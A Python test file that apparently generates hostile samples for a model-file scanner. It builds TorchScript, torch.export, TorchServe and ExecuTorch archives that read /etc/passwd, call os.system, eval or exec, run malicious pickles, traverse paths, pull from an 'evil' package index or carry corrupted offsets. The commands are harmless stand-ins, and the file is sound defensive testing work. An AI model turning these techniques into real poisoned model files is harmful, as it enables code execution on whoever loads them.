"""TorchScript's code, export archives and their fallbacks, TorchServe archives, ExecuTorch."""

import json
import struct
from collections.abc import Iterator

from tests.checks.models.building import NOISE, Entry, elf, zipped
from tests.corpus.assemble import EVIL, EVIL_4, EVIL_TEXT, EVIL_UNKNOWN, pickled
from tests.corpus.hostile._proto import Table, flatbuffer, raw
from tests.corpus.sample import Sample

PAYLOADS = {"system": EVIL, "text": EVIL_TEXT, "exec": EVIL_4, "unknown": EVIL_UNKNOWN}
HONEST = pickled(b"}", 2)

BODY = """class Net(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def forward(self: __torch__.Net,
    x: Tensor) -> Tensor:
    {statement}
    return x
"""
STATEMENTS = {
    "save": "ops.aten.save(x, '/tmp/a')",
    "torch.save": "torch.save(x, '/tmp/a')",
    "from_file": "y = torch.from_file('/etc/passwd', False, 10, dtype=0)",
    "aten from_file": "y = ops.aten.from_file('/etc/passwd')",
    "rpc": "y = torch.distributed.rpc.rpc_sync('a', x)",
    "ops rpc": "ops.rpc.rpc_async('a')",
    "load": "y = torch.load('/tmp/a')",
    "read_file": "y = ops.image.read_file('/etc/passwd')",
    "write_file": "ops.image.write_file('/tmp/a', x)",
    "caffe2": "y = ops._caffe2.LoadOp(x)",
    "python operator": "y = ^PythonOp(x)",
    "python operator, named": "y = ^os.system('true')(x)",
    "python print import": "import os",
    "eval": "y = eval('1')",
    "dunder": "y = x.__class__.__globals__",
    "open": "y = open('/etc/passwd')",
    "exec": "exec('pass')",
    "printed": "print(torch.from_file('/etc/passwd'))",
    "backdoor by library": "ops.load_library('/tmp/a.so')",
}


def script(statement: str, data: bytes = HONEST, **extra: bytes) -> bytes:
    return zipped(
        Entry("net/data.pkl", data),
        Entry("net/code/__torch__.py", BODY.format(statement=statement).encode()),
        Entry("net/code/__torch__.py.debug_pkl", pickled(b"(t", 2)),
        Entry("net/constants.pkl", pickled(b")", 2)),
        Entry("net/version", b"3\n"),
        *(Entry(f"net/{name}", body) for name, body in extra.items()),
    )


def samples() -> Iterator[Sample]:
    family = "torchscript"
    for name, statement in STATEMENTS.items():
        weak = name in {"load", "read_file"}
        yield Sample(
            family,
            name,
            f"the interpreter runs {statement}",
            {"net.pt": script(statement)},
            "medium" if weak else "high",
        )
        if name in {"save", "from_file", "torch.save"}:
            for ending in ("ptl", "bin", "pth", "zip"):
                yield Sample(
                    family,
                    f"{name}, .{ending}",
                    "torch.jit.load goes by content",
                    {f"net.{ending}": script(statement)},
                )
            deep = zipped(
                Entry("net/data.pkl", HONEST),
                Entry("net/code/__torch__/a/b.py", BODY.format(statement=statement).encode()),
                Entry("net/constants.pkl", pickled(b")", 2)),
                Entry("net/version", b"3\n"),
            )
            yield Sample(family, f"{name}, deep", "code of an inner module", {"net.pt": deep})
            packed = zipped(
                Entry("net/data.pkl", HONEST),
                Entry("net/code/__torch__.py", BODY.format(statement=statement).encode(), method=8),
                Entry("net/constants.pkl", pickled(b")", 2)),
                Entry("net/version", b"3\n"),
            )
            yield Sample(family, f"{name}, deflated", "packed code", {"net.pt": packed})
    hostile_code = {
        "type comment": "class Net(Module):\n  def forward(self, x):\n    # type: (__import__('os').system('true')) -> Tensor\n    return x\n",
        "import": "import os\nos.system('true')\n",
        "default": "def f(x=__import__('os').system('true')):\n  return x\n",
        "decorator": "@__import__('os').system\ndef f(x):\n  return x\n",
        "binary": "\0\1\2\3" * 40,
        "deep brackets": "x = " + "(" * 20_000,
        "no end": "class Net(Module):\n  def forward(self",
    }
    for name, code in hostile_code.items():
        data = zipped(
            Entry("net/data.pkl", HONEST),
            Entry("net/code/__torch__.py", code.encode()),
            Entry("net/constants.pkl", pickled(b")", 2)),
            Entry("net/version", b"3\n"),
        )
        expect = "not-checked" if name in {"binary", "deep brackets", "no end"} else "high"
        yield Sample(family, f"code: {name}", "no code that the compiler writes", {"net.pt": data}, expect)
    for kind, evil in PAYLOADS.items():
        yield Sample(
            family, f"data.pkl, {kind}", "unpickled by tools in Python", {"net.pt": script("pass", evil)}
        )
        yield Sample(
            family,
            f"constants.pkl, {kind}",
            "unpickled by tools in Python",
            {"net.pt": script("pass", **{"extra/x.pkl": evil})},
        )
        yield Sample(
            family,
            f"debug_pkl, {kind}",
            "unpickled by tools in Python",
            {"net.pt": script("pass", **{"code/x.py.debug_pkl": evil})},
        )
        yield Sample(
            family,
            f"extra file, {kind}",
            "an extra file",
            {"net.pt": script("pass", **{"extra/producer_info.json": evil})},
        )
        yield Sample(
            family,
            f"bytecode.pkl, {kind}",
            "the mobile interpreter's member",
            {"net.ptl": script("pass", **{"bytecode.pkl": evil})},
        )
    yield from _pt2()
    yield from _mar()
    yield from _executorch()


def _pt2() -> Iterator[Sample]:
    family = "torch: export archives"
    graph = json.dumps({"graph_module": {"graph": {"nodes": []}}, "opset_version": {"aten": 10}}).encode()

    def archive(**members: bytes) -> bytes:
        usual = {
            "archive_format": b"pt2",
            "archive_version": b"0",
            "byteorder": b"little",
            "models/model.json": graph,
            ".data/serialization_id": b"1",
        }
        return zipped(*(Entry(f"net/{name}", body) for name, body in {**usual, **members}.items()))

    for kind, evil in PAYLOADS.items():
        for member in (
            "data/sample_inputs/model.pt",
            "data/weights/model.pt",
            "data/constants/model.pt",
            "data/constants/custom_obj_0",
            "data/weights/weight_0",
            "extra/a.bin",
            "models/model.json",
        ):
            yield Sample(
                family,
                f"{member}, {kind}",
                "torch.export.load falls back to unpickling",
                {"net.pt2": archive(**{member: evil})},
            )
        inner = zipped(Entry("archive/data.pkl", evil), Entry("archive/version", b"3"))
        yield Sample(
            family,
            f"a checkpoint within, {kind}",
            "torch.load of a member",
            {"net.pt2": archive(**{"data/sample_inputs/model.pt": inner})},
        )
        old = zipped(
            Entry("serialized_exported_program.json", graph),
            Entry("serialized_state_dict.pt", inner),
            Entry("serialized_constants.pt", inner),
            Entry("serialized_example_inputs.pt", evil),
            Entry("version", b"8.7"),
        )
        yield Sample(family, f"the first layout, {kind}", "torch.load of a member", {"net.pt2": old})
    yield Sample(
        family,
        "native code",
        "an AOTInductor library is loaded",
        {"net.pt2": archive(**{"data/aotinductor/model/model.so": elf() + NOISE})},
    )
    yield Sample(
        family,
        "native code under another name",
        "an AOTInductor library is loaded",
        {"net.pt2": archive(**{"data/aotinductor/model/model.bin": elf() + NOISE})},
    )
    for target in (
        "os.system",
        "builtins.eval",
        "torch.ops.aten.from_file.default",
        "torch.hub.load",
    ):
        node = {
            "graph_module": {
                "graph": {
                    "nodes": [
                        {
                            "target": target,
                            "inputs": [{"name": "x", "arg": {"as_string": "true"}}],
                            "outputs": [],
                            "metadata": {},
                        }
                    ]
                }
            }
        }
        weak = target.startswith(("torch.ops.acme", "torch.hub", "torch.ops.aten"))
        yield Sample(
            family,
            f"graph target {target}",
            "the deserialiser resolves the target",
            {"net.pt2": archive(**{"models/model.json": json.dumps(node).encode()})},
            "medium" if weak else "high",
        )


def _mar() -> Iterator[Sample]:
    family = "torchserve archives"
    manifest = {
        "runtime": "python",
        "model": {
            "modelName": "a",
            "handler": "handler.py",
            "serializedFile": "model.pt",
            "modelVersion": "1",
        },
        "archiverVersion": "0.8",
    }

    def archive(handler: bytes, manifest: dict = manifest, **members: bytes) -> bytes:
        return zipped(
            Entry("MAR-INF/MANIFEST.json", json.dumps(manifest).encode()),
            Entry("handler.py", handler),
            *(Entry(name, body) for name, body in members.items()),
        )

    plain = b"class Handler:\n    def handle(self, data, context):\n        return data\n"
    for name, code in {
        "import time": b"import os\nos.system('true')\n" + plain,
        "subprocess": b"import subprocess\nsubprocess.run(['true'])\n" + plain,
        "exec": b"exec(__import__('base64').b64decode('cGFzcw=='))\n" + plain,
        "socket": b"import socket\nsocket.create_connection(('127.0.0.1', 1))\n" + plain,
    }.items():
        yield Sample(family, f"handler, {name}", "TorchServe imports the handler", {"a.mar": archive(code)})
        yield Sample(
            family, f"handler, {name}, as zip", "TorchServe imports the handler", {"a.zip": archive(code)}
        )
    for kind, evil in PAYLOADS.items():
        yield Sample(
            family,
            f"model, {kind}",
            "the handler loads the model",
            {"a.mar": archive(plain, **{"model.pt": zipped(Entry("a/data.pkl", evil))})},
        )
        yield Sample(
            family,
            f"extra file, {kind}",
            "the handler loads it",
            {"a.mar": archive(plain, **{"vocab.bin": evil})},
        )
    yield Sample(family, "any handler", "every archive carries code", {"a.mar": archive(plain)}, "medium")
    yield Sample(
        family,
        "requirements",
        "installed by the server",
        {
            "a.mar": archive(
                plain,
                **{
                    "requirements.txt": b"--index-url http://127.0.0.1/\nevil @ http://127.0.0.1/evil.tar.gz\n"
                },
            )
        },
        "medium",
    )
    outside = {
        **manifest,
        "model": {**manifest["model"], "handler": "../../evil.py", "serializedFile": "/etc/passwd"},
    }
    yield Sample(
        family,
        "handler outside",
        "a path of the manifest leaves the archive",
        {"a.mar": archive(plain, outside)},
    )
    yield Sample(
        family,
        "traversal",
        "an entry leaves the archive",
        {"a.mar": archive(plain, **{"../../evil.py": b"pass"})},
    )


def _executorch() -> Iterator[Sample]:
    family = "executorch"
    kernel = Table({0: raw("I", 0), 1: [Table({0: "aten::add", 1: "out"})]})
    good = flatbuffer(Table({0: raw("I", 0), 1: [kernel]}), b"ET12")
    lies = {
        "root beyond the file": struct.pack("<I", 0x7FFFFFFF) + good[4:],
        "root of zero": bytes(4) + good[4:],
        "cut": good[: len(good) // 2],
        "only a magic": b"\x10\0\0\0ET12",
        "table outside": good[:8] + b"\xff" * (len(good) - 8),
    }
    for name, data in lies.items():
        for path in ("model.pte", "model.bin"):
            yield Sample(
                family, f"{name}, {path}", "the runtime reads outside the file", {path: data}, "not-checked"
            )
    for at in range(8, min(len(good), 72), 8):
        broken = bytearray(good)
        broken[at : at + 4] = b"\xff\xff\xff\x7f"
        yield Sample(
            family,
            f"an offset changed at {at}",
            "the runtime reads outside the file",
            {"model.pte": bytes(broken)},
            "not-checked",
        )
